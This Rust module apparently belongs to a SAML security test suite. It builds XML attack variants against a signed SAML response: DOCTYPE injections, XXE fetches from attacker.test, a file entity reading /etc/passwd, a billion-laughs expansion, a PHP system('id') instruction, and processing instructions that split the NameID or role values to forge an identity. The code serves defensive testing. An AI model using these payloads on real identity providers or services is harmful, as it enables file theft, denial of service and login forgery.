//! Declarations, instructions and entities, which could change what a message means.

use super::Attack;
use super::message::RESPONSE;
use crate::replace_once;

pub(super) fn all() -> Vec<Attack> {
    [document_types(), instructions()].into_iter().flatten().collect()
}

fn document_types() -> Vec<Attack> {
    let doctype = |name, declaration: &'static str, why| {
        Attack::new("doctype", name, why)
            .then(move |xml| replace_once(xml, RESPONSE, &format!("{declaration}{RESPONSE}")))
    };
    vec![
        doctype(
            "entity",
            "<!DOCTYPE r [<!ENTITY admin \"Environment admin\">]>",
            "A document type can define entities.",
        ),
        doctype(
            "external",
            "<!DOCTYPE r SYSTEM \"http://attacker.test/evil.dtd\">",
            "An external document type is fetched by some parsers.",
        ),
        doctype(
            "id_attribute",
            "<!DOCTYPE r [<!ATTLIST saml2:Attribute Name ID #REQUIRED>]>",
            "A document type can make any attribute an ID.",
        ),
        doctype(
            "default_attribute",
            "<!DOCTYPE r [<!ATTLIST saml2:NameID Format CDATA \"x\">]>",
            "A document type can add attributes.",
        ),
        doctype(
            "billion_laughs",
            "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;\">]>",
            "Entities that multiply.",
        ),
        doctype(
            "parameter_entity",
            "<!DOCTYPE r [<!ENTITY % e SYSTEM \"http://attacker.test/e.dtd\"> %e;]>",
            "An entity for the document type itself, which is fetched before anything is read.",
        ),
        doctype(
            "file",
            "<!DOCTYPE r [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>",
            "A file of the server as part of a value.",
        ),
        doctype(
            "in_comment_ends",
            "<!-- > --><!DOCTYPE r [<!-- ]> --><!ENTITY a \"b\">]>",
            "A document type whose end is hard to find.",
        ),
        doctype("empty", "<!DOCTYPE saml2p:Response>", "A document type that says nothing."),
        doctype("lower_case", "<!doctype r>", "The same in small letters, as HTML has it."),
        doctype("conditional_section", "<![INCLUDE[<!ENTITY a \"b\">]]>", "A section that only document types have."),
        Attack::new("doctype", "inside", "A declaration inside of an element.")
            .tampered("<saml2p:Status>", "<saml2p:Status><!ENTITY a \"b\">"),
        Attack::new("doctype", "in_utf_16", "The same in two bytes a character, where filters for bytes are blind.")
            .then(|xml| Ok(format!("\u{feff}<!DOCTYPE r [<!ENTITY a \"b\">]>{xml}")))
            .encoded(|xml| xml.encode_utf16().flat_map(u16::to_be_bytes).collect()),
    ]
}

fn instructions() -> Vec<Attack> {
    vec![
        Attack::new(
            "processing_instruction",
            "in_name_id",
            "Some readers stop at a processing instruction inside a text.",
        )
        .said(">ann.lee@acme.test<", ">ann.lee@acme.test<?x?>.attacker.test<"),
        Attack::new("processing_instruction", "before_root", "A style sheet for the message.")
            .then(|xml| Ok(format!("<?xml-stylesheet href=\"http://attacker.test/\"?>{xml}"))),
        Attack::new("processing_instruction", "behind_root", "An instruction behind the message.")
            .then(|xml| Ok(format!("{xml}<?php system('id'); ?>"))),
        Attack::new("processing_instruction", "in_attribute_value", "A role that is cut by an instruction.")
            .said(">Member<", "><?x?>Environment admin<?x?><"),
        Attack::new(
            "processing_instruction",
            "in_signature",
            "An instruction within the signature, which no digest covers.",
        )
        .then(|xml| Ok(xml.replace("<ds:SignatureValue>", "<?x?><ds:SignatureValue>"))),
        Attack::new("entity_reference", "html", "An entity that only HTML knows.")
            .tampered(">Member<", ">Member&nbsp;<"),
        Attack::new("entity_reference", "other_case", "Entities are told apart by case.")
            .tampered(">Member<", ">A&AMP;B<"),
        Attack::new("entity_reference", "bare_ampersand", "An ampersand that begins no reference.")
            .tampered(">Member<", ">R & D<"),
        Attack::new("entity_reference", "undefined", "An entity that only a document type could define.")
            .tampered(">Member<", ">&admin;<"),
        Attack::new("entity_reference", "in_attribute", "The same in an attribute.")
            .tampered("Name=\"workato_role\"", "Name=\"&role;\""),
    ]
}
